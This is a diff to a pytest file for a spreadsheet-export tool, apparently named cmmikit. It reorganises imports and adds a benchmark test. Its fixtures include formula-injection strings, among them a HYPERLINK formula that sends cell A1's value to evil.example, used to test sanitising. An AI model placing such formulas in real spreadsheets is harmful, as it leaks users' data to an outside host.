@@ -2,9 +2,17 @@
 
 from __future__ import annotations
 
+import runpy
+import shutil
+import subprocess
+from pathlib import Path
+
 import pytest
 from openpyxl import Workbook, load_workbook
 
+from cmmikit import palette
+from cmmikit.excel import write_gap_workbook
+from cmmikit.rating import rate
 from cmmikit.xlsx_safe import MAX_CELL_TEXT, CellMaker, csv_text, safe_text, set_text
 
 MALICIOUS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(A1:A9)", "+1+2", "-2-3", "=1+1",
@@ -50,13 +58,6 @@ def test_user_text_comes_back_as_the_same_text(tmp_path, write_only):
 
 
 # ------------------------------------------------------------------ the gap-analysis workbook
-
-import shutil
-import subprocess
-
-from cmmikit import palette
-from cmmikit.excel import write_gap_workbook
-from cmmikit.rating import rate
 
 EVIL_NAME = "=HYPERLINK(\"http://evil.example\",\"x\")"
 
@@ -242,3 +243,11 @@ def test_cli_export_xlsx(demo_file, tmp_path, capsys):
     assert load_workbook(out, read_only=True).sheetnames[0] == "Summary"
     assert main(["export-xlsx", str(tmp_path / "missing.cmmi"), "-o", str(out)]) == 1
     assert "no such appraisal file" in capsys.readouterr().err
+
+
+def test_benchmark_script_runs_on_a_small_appraisal(capsys):
+    script = Path(__file__).parent.parent / "benchmarks" / "export_xlsx.py"
+    module = runpy.run_path(str(script))
+    assert module["main"](["--units", "2", "--repeat", "1"]) == 0
+    out = capsys.readouterr().out
+    assert "appraisal: 2 basic units" in out and "ratio:" in out
